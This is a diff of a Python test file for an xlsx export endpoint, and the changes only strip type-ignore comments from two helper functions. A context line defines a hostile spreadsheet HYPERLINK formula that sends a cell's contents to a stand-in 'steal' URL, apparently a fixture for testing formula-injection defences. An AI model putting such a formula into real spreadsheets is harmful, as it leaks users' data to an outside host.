@@ -21,13 +21,13 @@ HOSTILE = '=HYPERLINK("http://example.org/steal?"&A1,"点击查看")'
 AT = datetime.datetime(2016, 9, 6, 1, 30, tzinfo=datetime.UTC)  # 09:30 in Zhengzhou
 
 
-def _sheet(response):  # type: ignore[no-untyped-def]
+def _sheet(response):
     assert response.status_code == 200, response.status_code
     assert response["Content-Type"].startswith("application/vnd.openxmlformats")
     return openpyxl.load_workbook(io.BytesIO(response.content)).active
 
 
-def _rows(response) -> list[tuple]:  # type: ignore[no-untyped-def]
+def _rows(response) -> list[tuple]:
     return list(_sheet(response).iter_rows(min_row=3, values_only=True))
 
 
